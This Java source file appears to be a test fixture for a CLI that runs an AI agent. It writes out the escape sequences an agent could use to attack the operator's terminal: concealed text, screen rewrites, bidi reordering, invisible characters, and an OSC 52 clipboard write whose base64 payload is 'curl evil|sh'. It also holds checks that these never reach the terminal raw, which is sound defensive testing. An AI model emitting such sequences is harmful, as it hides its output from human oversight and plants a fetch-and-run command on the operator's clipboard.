package dev.claudebottle.cli;

import dev.claudebottle.cli.common.TerminalText;
import java.util.List;

/**
 * What an agent writes to attack the operator's terminal: each sequence with a visible marker
 * around it, and the checks that none of it reaches a terminal raw.
 */
public final class HostileText {
    /** Hides what follows (SGR 8, conceal) until a reset. */
    public static final String CONCEAL = "\u001b[8m";
    /** OSC 52: writes the operator's clipboard ("curl evil|sh"), ended by BEL. */
    public static final String CLIPBOARD = "\u001b]52;c;Y3VybCBldmlsfHNo\u0007";
    /** Clears the screen, moves up a line, erases it. */
    static final String REWRITE = "\u001b[2J\u001b[1A\u001b[2K";
    /** CSI as the one C1 character U+009B: clears the screen on terminals that take 8-bit controls. */
    static final String C1_CSI = "\u009b2J";
    /** Carriage return and backspaces: overwrite what the line showed. */
    static final String OVERWRITE = "\rSAFE\b\b\b\b";
    /** Right-to-left override and an isolate: reorder what the operator reads. */
    static final String BIDI = "\u202egnp.live\u202c\u2066x\u2069";
    /** NUL, DEL, a zero-width space, a lone high surrogate and a lone low one. */
    static final String INVISIBLE = "\u0000\u007f\u200b\ud800x\udc00";

    /** One justification with every attack, between visible markers. */
    public static final String JUSTIFICATION = "need pypi " + CONCEAL + "HIDDEN " + CLIPBOARD + REWRITE + C1_CSI + OVERWRITE + BIDI
            + INVISIBLE + " END";

    /** What the rule shows in place of {@link #JUSTIFICATION}'s attacks, in order. */
    public static final List<String> VISIBLE = List.of("\\x1b[8mHIDDEN", "\\x1b]52;c;Y3VybCBldmlsfHNo\\x07", "\\x1b[2J\\x1b[1A\\x1b[2K",
            "\\x9b2J", "\\x0dSAFE\\x08\\x08\\x08\\x08", "\\u202egnp.live\\u202c\\u2066x\\u2069", "\\x00\\x7f\\u200b\\ud800x\\udc00");

    private HostileText() {}

    /** Whether {@code text} holds a character the rule names, LF excepted. */
    public static boolean reachesTheTerminalRaw(String text) {
        return text.codePoints().anyMatch(c -> c != '\n' && !TerminalText.isShown(c));
    }

    /** The characters in {@code text} that the rule names, for an assertion message. */
    public static String offending(String text) {
        StringBuilder found = new StringBuilder();
        text.codePoints().filter(c -> c != '\n' && !TerminalText.isShown(c)).forEach(c -> found.append(TerminalText.escaped(c)).append(' '));
        return found.toString();
    }
}
